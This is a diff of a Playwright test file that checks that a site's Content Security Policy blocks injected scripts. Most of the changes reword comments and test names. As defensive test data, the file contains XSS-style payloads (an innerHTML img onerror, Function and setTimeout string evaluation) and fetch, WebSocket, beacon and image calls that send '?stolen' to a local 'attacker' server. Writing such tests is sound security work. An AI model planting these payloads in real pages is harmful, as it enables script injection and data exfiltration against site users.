@@ -7,10 +7,9 @@ import type { Page } from 'playwright/test';
 import { expect, hydrate, test } from '../fixtures';
 import { pages, site } from '../registry';
 
-/* That nothing of the site's own is refused, every test of this folder shows: a refusal is an error on
- * the browser's console, and ends the test that it happens in. */
+/* Every test in this folder fails if the CSP blocks anything of the site's, because a violation is a console error. */
 
-test('no page’s policy has a finding of high severity', async ({ request }) => {
+test('no page’s CSP has a finding of medium or higher severity', async ({ request }) => {
   for (const href of [...pages.map(({ href }) => href), '/NoSuchPage']) {
     const html = await (await request.get(href)).text();
     const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
@@ -22,11 +21,11 @@ test('no page’s policy has a finding of high severity', async ({ request }) =>
   }
 });
 
-/** A server of another origin, which must never be asked for anything. */
+/** Requests to a server on another origin. There must be none. */
 const attackerRequests: string[] = [];
-const attacker = createServer((request, answer) => {
+const attacker = createServer((request, response) => {
   attackerRequests.push(request.url ?? '');
-  answer.setHeader('access-control-allow-origin', '*').end('window.taken = true');
+  response.setHeader('access-control-allow-origin', '*').end('window.taken = true');
 });
 let attackerOrigin = '';
 
@@ -36,24 +35,25 @@ test.beforeAll(async () => {
 });
 test.afterAll(() => attacker.close());
 
-/** Keeps the directives under which the page's policy has refused something. */
+/** Records the directive of each CSP violation. */
 async function recordViolations(page: Page) {
   await page.addInitScript(() => {
-    const heard: string[] = [];
-    Reflect.set(window, 'heard', heard);
+    const violations: string[] = [];
+    Reflect.set(window, 'violations', violations);
     window.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-      heard.push(effectiveDirective);
+      violations.push(effectiveDirective);
     });
   });
 }
 
-const violationsOn = (page: Page) => page.evaluate((): string[] => Reflect.get(window, 'heard'));
+const violationsOn = (page: Page) =>
+  page.evaluate((): string[] => Reflect.get(window, 'violations'));
 const isCompromised = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'));
 
-/** What a script that has got into the page might try, and under which directive it is refused. */
-const attempts: [what: string, directive: string, run: (elsewhere: string) => unknown][] = [
+/** What an injected script might try, and the directive that blocks it. */
+const attempts: [what: string, directive: string, run: (origin: string) => unknown][] = [
   [
-    'a script of its own',
+    'an inline script',
     'require-trusted-types-for',
     () => {
       const script = document.createElement('script');
@@ -62,7 +62,7 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
     },
   ],
   [
-    'a script from elsewhere',
+    'a script from another origin',
     'require-trusted-types-for',
     (origin) => {
       const script = document.createElement('script');
@@ -71,7 +71,7 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
     },
   ],
   [
-    'a file of the site that is none of its scripts',
+    'a file of the site that isn’t a script',
     'require-trusted-types-for',
     () => {
       const script = document.createElement('script');
@@ -80,52 +80,60 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
     },
   ],
   [
-    'a text as a program',
+    'the Function constructor',
     'require-trusted-types-for',
     () => Reflect.construct(Function, ['window.taken = true'])(),
   ],
-  ['a text for later', 'require-trusted-types-for', () => setTimeout('window.taken = true')],
   [
-    'markup',
+    'a string passed to setTimeout',
+    'require-trusted-types-for',
+    () => setTimeout('window.taken = true'),
+  ],
+  [
+    'innerHTML',
     'require-trusted-types-for',
     () => {
       document.body.innerHTML += '<img src="/none.png" onerror="window.taken = true">';
     },
   ],
   [
-    'a handler in an attribute',
+    'an event handler attribute',
     'require-trusted-types-for',
     () => document.body.setAttribute('onclick', 'window.taken = true'),
   ],
   ['a worker', 'require-trusted-types-for', () => new Worker('/search.json')],
   [
-    'a frame with a document of its own',
+    'a frame with srcdoc',
     'require-trusted-types-for',
     () => {
       document.createElement('iframe').srcdoc = '<script>parent.taken = true</script>';
     },
   ],
   [
-    'a policy of its own',
+    'a Trusted Types policy',
     'trusted-types',
     () => Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: String }),
   ],
-  ['a request elsewhere', 'connect-src', (origin) => fetch(`${origin}/?stolen`)],
+  ['a request to another origin', 'connect-src', (origin) => fetch(`${origin}/?stolen`)],
   [
-    'a socket elsewhere',
+    'a socket to another origin',
     'connect-src',
     (origin) => new WebSocket(`${origin.replace('http', 'ws')}/?stolen`),
   ],
-  ['a message left behind', 'connect-src', (origin) => navigator.sendBeacon(`${origin}/?stolen`)],
   [
-    'a picture from elsewhere',
+    'a beacon to another origin',
+    'connect-src',
+    (origin) => navigator.sendBeacon(`${origin}/?stolen`),
+  ],
+  [
+    'an image from another origin',
     'img-src',
     (origin) => {
       new Image().src = `${origin}/?stolen`;
     },
   ],
   [
-    'a frame from elsewhere',
+    'a frame from another origin',
     'frame-src',
     (origin) => {
       const frame = document.createElement('iframe');
@@ -134,7 +142,7 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
     },
   ],
   [
-    'a form to elsewhere',
+    'a form to another origin',
     'form-action',
     (origin) => {
       const form = document.createElement('form');
@@ -144,7 +152,7 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
     },
   ],
   [
-    'another base for addresses',
+    'a base URL on another origin',
     'base-uri',
     (origin) => {
       const base = document.createElement('base');
@@ -153,7 +161,7 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
     },
   ],
   [
-    'a style of its own',
+    'an inline style sheet',
     'style-src-elem',
     () => {
       const style = document.createElement('style');
@@ -163,7 +171,7 @@ const attempts: [what: string, directive: string, run: (elsewhere: string) => un
   ],
 ];
 
-test('what a foreign script tries in a page is refused', async ({ consoleErrors, page }) => {
+test('the CSP blocks what an injected script attempts', async ({ consoleErrors, page }) => {
   await recordViolations(page);
   await page.goto('/About');
   await hydrate(page);
@@ -172,7 +180,7 @@ test('what a foreign script tries in a page is refused', async ({ consoleErrors,
   for (const [what, directive, run] of attempts) {
     await test.step(what, async () => {
       const before = (await violationsOn(page)).length;
-      // What a test evaluates may evaluate texts itself, for as long as it runs.
+      // page.evaluate() may eval strings while it runs, so make the attempt in a later task.
       await page.evaluate(
         ([source, origin]) => {
           const run: (origin: string) => unknown = Function(`return ${source}`)();
@@ -192,7 +200,7 @@ test('what a foreign script tries in a page is refused', async ({ consoleErrors,
   expect(consoleErrors.splice(0).length).toBeGreaterThanOrEqual(attempts.length);
 });
 
-test('markup that has got into a page brings neither scripts, styles nor a base', async ({
+test('injected markup can’t run scripts, apply styles, or change the base URL', async ({
   consoleErrors,
   page,
 }) => {
@@ -216,14 +224,16 @@ test('markup that has got into a page brings neither scripts, styles nor a base'
   consoleErrors.splice(0);
 });
 
-/** A page of each kind: with a film, agents, tables, structured data of each type, and with nothing. */
+/** One page of each kind: with a film, agents, tables, each type of structured data, and none of these. */
 const kinds = ['AITeam', 'Capabilities', 'ISO', 'About', 'Careers', 'PrivacyPolicy'];
 const linkedPages = pages.flatMap((page) =>
   kinds.includes(page.name) && page.footer !== undefined ? [{ ...page, footer: page.footer }] : [],
 );
 
 for (const start of ['/', '/ShiftLog', '/PrivacyPolicy', '/NoSuchPage']) {
-  test(`under the policy of ${start} a reader goes on to pages of every kind`, async ({ page }) => {
+  test(`under the CSP of ${start}, client-side navigation reaches pages of every kind`, async ({
+    page,
+  }) => {
     await page.goto(start);
     await hydrate(page);
     await page.evaluate(() => Reflect.set(window, 'first', true));
@@ -234,7 +244,7 @@ for (const start of ['/', '/ShiftLog', '/PrivacyPolicy', '/NoSuchPage']) {
       await expect(page).toHaveURL(href);
       await expect(page).toHaveTitle(`${title} | ${site.name}`);
     }
-    // Still the document that the first page came with, and its policy.
+    // Still the first page's document, and its CSP.
     expect(await page.evaluate(() => Reflect.has(window, 'first'))).toBe(true);
   });
 }
